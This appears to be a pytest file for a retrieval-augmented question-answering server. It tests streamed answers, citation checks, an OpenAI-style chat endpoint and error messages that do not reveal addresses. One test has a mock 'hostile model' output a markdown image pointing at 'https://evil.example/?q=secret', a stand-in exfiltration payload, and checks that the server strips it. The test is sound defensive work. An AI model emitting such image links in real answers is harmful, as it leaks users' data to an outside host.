"""Answers of a language model from the server, streamed and with checked citations."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the extra serve is not installed")

from ragqa import Pipeline
from ragqa.serve import schemas
from tests.helpers.chat_server import MODEL, run_chat_server, say
from tests.helpers.serving import open_client, read_events

QUESTION = "Who built Skarvik Lighthouse?"


@pytest.fixture(autouse=True)
def own_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("RAGQA_CHAT_KEY", raising=False)


@pytest.fixture
def client(index: Path) -> Iterator[Any]:
    with run_chat_server(say("The engineer Ada", " Holm built it [1]. It was", " painted green [1].")) as server:
        pipeline = Pipeline.load(index, reader=f"chat:{server.url}#{MODEL}")
        with open_client({"documents": pipeline}) as client:
            yield client


def test_statements_are_streamed_and_checked(client: Any) -> None:
    body = {"question": QUESTION, "min_confidence": 0, "stream": True}
    events = read_events(client.post("/ask", json=body).text)
    assert [name for name, _ in events] == ["passages", "text", "text", "answer"]
    answer = events[-1][1]
    schemas.AnswerReply.model_validate(answer)
    assert [row["supported"] for row in answer["statements"]] == [True, False]
    assert answer == client.post("/ask", json={"question": QUESTION, "min_confidence": 0}).json()


def test_a_chat_has_the_citations_behind_the_statements(client: Any) -> None:
    messages = [{"role": "user", "content": QUESTION}]
    whole = client.post("/v1/chat/completions", json={"model": "documents", "messages": messages}).json()
    message = whole["choices"][0]["message"]
    body = {"model": "documents", "messages": messages, "stream": True}
    rows = [row for _, row in read_events(client.post("/v1/chat/completions", json=body).text) if row != "[DONE]"]
    deltas = [row["choices"][0]["delta"] for row in rows]
    text = "".join(delta.get("content", "") for delta in deltas)
    citations = [a["url_citation"] for delta in deltas for a in delta.get("annotations", [])]
    if message["content"].startswith("These documents"):  # declined after it was written
        assert text.endswith(message["content"]) and text.startswith("The engineer Ada Holm built it [1].")
    else:
        assert text == message["content"]
    assert citations and all(text[c["start_index"] : c["end_index"]].startswith("[") for c in citations)


def test_a_hostile_model_cannot_show_an_image(index: Path) -> None:
    with run_chat_server(say("Ada Holm built it! ![1](https://evil.example/?q=secret) [1].")) as server:
        pipeline = Pipeline.load(index, reader=f"chat:{server.url}#{MODEL}")
        with open_client({"documents": pipeline}) as client:
            messages = [{"role": "user", "content": QUESTION}]
            for stream in (False, True):
                body = {"model": "documents", "messages": messages, "stream": stream}
                text = client.post("/v1/chat/completions", json=body).text
                if stream:
                    rows = [row for _, row in read_events(text) if row != "[DONE]"]
                    text = "".join(row["choices"][0]["delta"].get("content", "") for row in rows)
                else:
                    text = json.loads(text)["choices"][0]["message"]["content"]
                assert "evil.example" not in text or "](" not in text


def test_a_model_that_is_down_is_an_error_without_its_address(index: Path) -> None:
    pipeline = Pipeline.load(index, reader=f"chat:http://127.0.0.1:9/v1#{MODEL}")
    with open_client({"documents": pipeline}) as client:
        reply = client.post("/ask", json={"question": QUESTION})
        assert reply.status_code == 503 and "127.0.0.1" not in reply.text
        events = read_events(client.post("/ask", json={"question": QUESTION, "stream": True}).text)
        assert [name for name, _ in events] == ["passages", "error"]
